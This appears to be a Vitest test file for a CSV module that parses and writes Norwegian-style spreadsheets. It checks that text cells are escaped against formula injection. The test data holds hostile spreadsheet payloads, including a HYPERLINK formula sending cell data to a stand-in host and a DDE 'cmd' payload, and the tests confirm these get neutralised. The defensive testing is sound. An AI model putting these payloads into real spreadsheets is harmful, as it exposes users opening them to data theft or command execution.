import { describe, expect, it } from 'vitest';
import { csvCell, csvNumberCell, csvTextCell, detectSeparator, parseCsv, startsFormula } from './csv';

describe('parseCsv', () => {
  it('reads a header and rows with their line numbers', () => {
    const t = parseCsv('\uFEFFa;b\r\n1;2\n\n3;4\n');
    expect(t.header).toEqual(['a', 'b']);
    expect(t.rows).toEqual([
      { line: 2, values: { a: '1', b: '2' } },
      { line: 4, values: { a: '3', b: '4' } },
    ]);
    expect(t.malformed).toEqual([]);
  });

  it('keeps separators, quotes and line breaks inside quoted cells', () => {
    const t = parseCsv('navn;tekst\n"Sør-Aurdal";"a;b ""c""\nd"\nx;y');
    expect(t.rows[0]!.values).toEqual({ navn: 'Sør-Aurdal', tekst: 'a;b "c"\nd' });
    expect(t.rows[1]).toEqual({ line: 4, values: { navn: 'x', tekst: 'y' } });
  });

  it('reports rows with the wrong number of cells instead of dropping them silently', () => {
    const t = parseCsv('a;b\n1;2;3\n4\n');
    expect(t.rows).toEqual([]);
    expect(t.malformed).toEqual([
      { line: 2, cells: 3 },
      { line: 3, cells: 1 },
    ]);
  });
});

describe('csvCell', () => {
  it('quotes only what needs quoting and round-trips', () => {
    expect(csvCell('Tana')).toBe('Tana');
    expect(csvCell(9.5)).toBe('9,5');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    const tricky = 'a;"b"\nc';
    const line = `x;${csvCell(tricky)}`;
    expect(parseCsv(`h1;h2\n${line}`).rows[0]!.values.h2).toBe(tricky);
  });
});

describe('csvTextCell: no text cell starts a formula (OWASP CSV injection)', () => {
  const hostile: [string, string][] = [
    ['=HYPERLINK("https://x.example/?d="&A1;"Klikk")', `"'=HYPERLINK(""https://x.example/?d=""&A1;""Klikk"")"`],
    ['+1+1', `"'+1+1"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    [' =1', `"' =1"`],
    ['\u00A0\u200B=1', `"'\u00A0\u200B=1"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['\uFF1D1+1', `"'\uFF1D1+1"`],
    ['\0=1', `"'\0=1"`],
    ['-5', `"'-5"`],
  ];
  it.each(hostile)('neutralises %j with a quote and double quotes', (value, written) => {
    expect(csvTextCell(value)).toBe(written);
    expect(csvCell(value)).toBe(written);
  });

  it('reads back as the original text behind one apostrophe', () => {
    for (const [value] of hostile) {
      const back = parseCsv(`a;b\r\nx;${csvTextCell(value)}\r\n`).rows[0]!.values.b!;
      expect(back).toBe(`'${value}`.trim());
    }
  });

  it('leaves ordinary text alone, including formula characters later in the cell', () => {
    for (const text of ['Sør-Aurdal', 'a=b', 'e-post: post@x.no', '2+2', '4,5', "'sitat'", '']) {
      expect(startsFormula(text), text).toBe(false);
      expect(csvTextCell(text)).toBe(text);
    }
  });

  it('quotes separators, quotes and line breaks', () => {
    expect(csvTextCell('a;b')).toBe('"a;b"');
    expect(csvTextCell('a,b', ',')).toBe('"a,b"');
    expect(csvTextCell('si "hei"')).toBe('"si ""hei"""');
  });
});

describe('csvNumberCell: numbers Norwegian Excel reads as numbers', () => {
  it.each([
    [-0.5, '-0,5'],
    [-12, '-12'],
    [-9.75, '-9,75'],
    [0, '0'],
    [-0, '0'],
    [-0.00001, '0'],
    [12345.6789, '12345,6789'],
    [0.1 + 0.2, '0,3'],
    [1e21, '1000000000000000000000'],
  ])('%d is written %s', (value, written) => {
    expect(csvNumberCell(value)).toBe(written);
    expect(csvCell(value)).toBe(written);
  });

  it('uses the ASCII hyphen-minus, never U+2212, and is never prefixed', () => {
    const cell = csvNumberCell(-1.25);
    expect(cell).toBe('-1,25');
    expect(cell).not.toContain('\u2212');
    expect(cell.startsWith("'")).toBe(false);
  });

  it('refuses NaN and infinities instead of writing them', () => {
    expect(() => csvNumberCell(Number.NaN)).toThrow(RangeError);
    expect(() => csvNumberCell(Number.POSITIVE_INFINITY)).toThrow(RangeError);
  });
});

describe('detectSeparator', () => {
  it('reads the separator from the header: semicolon, or comma when the header has no semicolon', () => {
    expect(detectSeparator('kommune;år\n1;2')).toBe(';');
    expect(detectSeparator('kommune,år\r\n"4,5",2')).toBe(',');
    expect(detectSeparator('kommune;år,x\n')).toBe(';');
    expect(detectSeparator('kommune\n')).toBe(';');
    expect(detectSeparator('')).toBe(';');
  });

  it('reads a comma-separated file with quoted decimal commas, as Excel writes it', () => {
    const text = '\uFEFFkommune,skår\r\nløten,"4,5"\r\n';
    expect(parseCsv(text, detectSeparator(text)).rows[0]!.values).toEqual({ kommune: 'løten', skår: '4,5' });
  });
});
